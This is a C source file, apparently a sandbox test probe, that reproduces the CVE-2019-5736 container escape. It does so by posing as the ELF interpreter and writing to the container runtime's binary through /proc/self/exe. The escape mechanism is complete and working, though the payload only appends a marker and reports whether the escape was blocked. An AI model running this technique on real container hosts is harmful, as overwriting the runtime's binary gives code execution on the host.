/* Overwriting the runtime through /proc/self/exe, without a race
 * (CVE-2019-5736, the way its exploit did it).
 *
 * The test installs this program as the container's
 * /lib64/ld-linux-x86-64.so.2: an image may hold anything there, and the
 * kernel loads it as the interpreter of every dynamic binary executed
 * inside.  When the container makes the runtime execute /proc/self/exe
 * (`exec ID /proc/self/exe`, or a "#!/proc/self/exe" script), the binary
 * executed is the runtime's own, and this program runs with it as
 * /proc/self/exe -- which a process may always open, dumpable or not.  It
 * opens it and re-executes itself (by its own path: the binary must not
 * stay mapped by a process of ours) in a child, which waits until no
 * process runs that binary any more (ETXTBSY) and appends the marker from
 * /esc/exe-marker to it.  It starts trying only once /esc/exe-go exists,
 * which the test creates after its last route: a writer that held the
 * binary open for writing while the test executed it again would make
 * that exec fail (ETXTBSY), and the route would never run.  It prints
 *     attempt interpreter info running as the ELF interpreter of DEV:INO
 *     attempt exe_overwrite blocked|succeeded DETAIL
 *     verdict blocked|succeeded
 * on the stdout it inherited (the exec's: the child prints after the
 * exec returned).
 *
 * Freestanding, without libc: glibc's static start-up would set itself up
 * from the auxiliary vector of the program it interprets, and crash. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>

#define ETXTBSY_ 26
#if defined(__x86_64__)
#define LDSO_PATH "/lib64/ld-linux-x86-64.so.2"
#else
#define LDSO_PATH "/lib/ld-linux-aarch64.so.1"
#endif

static long sys6(long n, long a, long b, long c, long d, long e, long f)
{
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    long ret;
    __asm__ volatile("syscall"
                     : "=a"(ret)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return ret;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = n;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    register long x4 __asm__("x4") = e;
    register long x5 __asm__("x5") = f;
    __asm__ volatile("svc #0"
                     : "+r"(x0)
                     : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5)
                     : "memory");
    return x0;
#else
#error "esc_ldso: x86_64 or aarch64 only"
#endif
}
#define sys3(n, a, b, c) sys6((n), (long)(a), (long)(b), (long)(c), 0, 0, 0)

static unsigned long slen(const char *s)
{
    unsigned long n = 0;
    while (s[n])
        n++;
    return n;
}

static char line[512];
static unsigned long pos;

static void put(const char *s)
{
    while (*s && pos < sizeof(line) - 1)
        line[pos++] = *s++;
}

static void put_num(unsigned long v)
{
    char b[24];
    int n = 0;
    do
        b[n++] = (char)('0' + v % 10);
    while ((v /= 10) != 0 && n < 23);
    while (n > 0 && pos < sizeof(line) - 1)
        line[pos++] = b[--n];
}

static void flush(void)
{
    sys3(SYS_write, 1, line, pos);
    pos = 0;
}

static __attribute__((noreturn)) void leave(int code)
{
    sys3(SYS_exit_group, code, 0, 0);
    for (;;)
        ;
}

/* The child, re-executed as "PATH --write-fd FD DEV INO": FD is the
 * runtime's binary (O_PATH). */
static __attribute__((noreturn)) void writer(char **argv)
{
    const char *fdnum = argv[2];
    char marker[256] = "PADDOCK-ESCAPED";
    long fd = sys3(SYS_openat, AT_FDCWD, "/esc/exe-marker", O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        long n = sys3(SYS_read, fd, marker, sizeof(marker) - 1);
        if (n > 0) {
            marker[n] = '\0';
            for (long i = 0; i < n; i++)
                if (marker[i] == '\n')
                    marker[i] = '\0';
        }
        sys3(SYS_close, fd, 0, 0);
    }
    char path[40] = "/proc/self/fd/";
    unsigned long p = slen(path);
    for (const char *d = fdnum; *d && p < sizeof(path) - 1; d++)
        path[p++] = *d;
    path[p] = '\0';
    struct timespec pause = { 0, 20 * 1000 * 1000 };
    long w = -ETXTBSY_;
    int go = 0;
    for (int i = 0; i < 3000; i++) { /* a minute at most */
        if (!go)
            go = sys6(SYS_faccessat, AT_FDCWD, (long)"/esc/exe-go", F_OK, 0, 0, 0) == 0;
        if (go) {
            w = sys3(SYS_openat, AT_FDCWD, path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0 || w != -ETXTBSY_)
                break;
        }
        sys3(SYS_nanosleep, &pause, 0, 0);
    }
    if (!go) {
        put("error /esc/exe-go never appeared (the test creates it after its last route)\n");
        flush();
        leave(2);
    }
    if (w < 0) {
        put("attempt exe_overwrite blocked reopen the runtime's binary (/proc/self/exe) for writing: errno ");
        put_num((unsigned long)-w);
        put("\nverdict blocked\n");
        flush();
        leave(0);
    }
    char text[260];
    unsigned long n = 0;
    text[n++] = '\n';
    for (const char *m = marker; *m && n < sizeof(text) - 1; m++)
        text[n++] = *m;
    text[n++] = '\n';
    long r = sys3(SYS_write, w, text, n);
    if (r != (long)n) {
        put("attempt exe_overwrite blocked write to the runtime's binary (/proc/self/exe): errno ");
        put_num(r < 0 ? (unsigned long)-r : 0);
        put("\nverdict blocked\n");
    } else {
        put("attempt exe_overwrite succeeded appended the marker to the runtime's binary (");
        put(argv[3]);
        put(") through /proc/self/exe\nverdict succeeded\n");
    }
    flush();
    leave(0);
}

static int streq(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

__attribute__((noreturn, used)) void start_c(long *sp)
{
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = argv + argc + 1;
    if (argc == 4 && streq(argv[1], "--write-fd"))
        writer(argv);
    long exe = sys3(SYS_openat, AT_FDCWD, "/proc/self/exe", O_PATH); /* inherited by the writer */
    if (exe < 0) {
        put("error open /proc/self/exe: errno ");
        put_num((unsigned long)-exe);
        put("\n");
        flush();
        leave(2);
    }
    struct stat st;
    if (sys3(SYS_fstat, exe, &st, 0) < 0)
        leave(2);
    char fdnum[24], id[64];
    pos = 0;
    put_num((unsigned long)exe);
    line[pos] = '\0';
    for (unsigned long i = 0; i <= pos; i++)
        fdnum[i] = line[i];
    pos = 0;
    put_num(st.st_dev);
    put(":");
    put_num(st.st_ino);
    line[pos] = '\0';
    for (unsigned long i = 0; i <= pos; i++)
        id[i] = line[i];
    pos = 0;
    put("attempt interpreter info running as the ELF interpreter of ");
    put(id);
    put("\n");
    flush();
    long pid = sys3(SYS_fork, 0, 0, 0);
    if (pid != 0)
        leave(pid < 0 ? 2 : 0); /* the exec returns; the child writes */
    sys3(SYS_setsid, 0, 0, 0);
    char *args[] = { LDSO_PATH, "--write-fd", fdnum, id, 0 };
    long e = sys3(SYS_execve, LDSO_PATH, args, envp);
    put("error re-executing " LDSO_PATH ": errno ");
    put_num((unsigned long)-e);
    put("\n");
    flush();
    leave(2);
}

#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall start_c\n\thlt\n");
#else
__asm__(".globl _start\n_start:\n\tmov x0, sp\n\tand x1, x0, #-16\n\tmov sp, x1\n\tbl start_c\n");
#endif
